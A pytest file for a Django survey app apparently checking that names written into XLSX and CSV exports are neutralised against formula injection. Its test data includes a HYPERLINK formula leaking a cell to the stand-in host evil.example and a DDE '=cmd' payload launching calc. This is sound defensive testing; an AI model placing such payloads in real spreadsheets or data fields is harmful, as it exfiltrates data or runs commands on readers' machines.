"""Hostile names from users come out as inert text in the workbook and the CSV."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from exports.cells import safe_text
from exports.options import ExportOptions
from exports.services import export_round
from scoring.models import MemberScore
from survey.models import HouseholdResponse, MemberResponse
from tests.exports.helpers import formula_cells, read_sheets
from tests.factories import NGA_QUAN
from units.models import AdminUnit

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+1",
    "-1",
    "@SUM(A1:A9)",
    "\tTab",
    "\rCR",
]


def test_safe_text():
    assert [safe_text(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert safe_text("Nguyễn Văn A") == "Nguyễn Văn A"
    assert safe_text("") == ""
    assert safe_text("a=b") == "a=b"


@pytest.fixture
def hostile_round(report_round):
    response = HouseholdResponse.objects.filter(round=report_round, unit_id=NGA_QUAN).first()
    HouseholdResponse.objects.filter(pk=response.pk).update(head_name=HOSTILE[0])
    # Members with a score row: those the detail sheets list.
    scored = list(
        MemberScore.objects.filter(round=report_round, unit_id=NGA_QUAN)
        .order_by("member_id")
        .values_list("member_id", flat=True)[: len(HOSTILE)]
    )
    for member, name in zip(scored, HOSTILE, strict=True):
        MemberResponse.objects.filter(pk=member).update(full_name=name)
    AdminUnit.objects.filter(key=NGA_QUAN).update(name="=cmd|' /C calc'!A0")
    return report_round, scored


def test_workbook_cells_are_inert_text_shown_as_typed(hostile_round, tmp_path):
    round_, _members = hostile_round
    path = tmp_path / "hostile.xlsx"
    export_round(round_=round_, options=ExportOptions(detail=True), user=None, target=path)
    assert formula_cells(path) == []
    sheets = read_sheets(path)
    texts = {v for rows in sheets.values() for row in rows for v in row if isinstance(v, str)}
    for value in HOSTILE:
        # XML readers turn a raw carriage return into a line feed.
        value = value.replace("\r", "\n")
        assert value in texts
        assert "'" + value not in texts
    summary_names = [r[2] for r in sheets["Tổng hợp"][1:]]
    assert "=cmd|' /C calc'!A0" in summary_names
    households = sheets["Hộ"]
    assert HOSTILE[0] in [r[households[0].index("Chủ hộ")] for r in households[1:]]
    # Each such cell is text with the quote-prefix flag (what an apostrophe typed first sets).
    workbook = load_workbook(path)
    flagged = [
        (cell.value, cell.data_type, cell.quotePrefix)
        for sheet in workbook
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@"))
    ]
    assert flagged and all(kind == "s" and prefix for _v, kind, prefix in flagged)
    plain = workbook["Tổng hợp"].cell(row=1, column=1)
    assert (plain.data_type, plain.quotePrefix) == ("s", False)


def test_csv_cells_are_inert_text(hostile_round, tmp_path):
    round_, _members = hostile_round
    path = tmp_path / "members.csv"
    export_round(
        round_=round_, options=ExportOptions(detail=True), user=None, target=path, file_format="csv"
    )
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    names = [r[rows[0].index("Họ và tên")] for r in rows[1:]]
    for value in HOSTILE:
        assert "'" + value in names
        assert value not in names
    summary = tmp_path / "summary.csv"
    export_round(
        round_=round_, options=ExportOptions(), user=None, target=summary, file_format="csv"
    )
    text = summary.read_bytes()
    assert text.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(text.decode("utf-8-sig"), newline="")))
    assert "'=cmd|' /C calc'!A0" in [r[2] for r in rows[1:]]
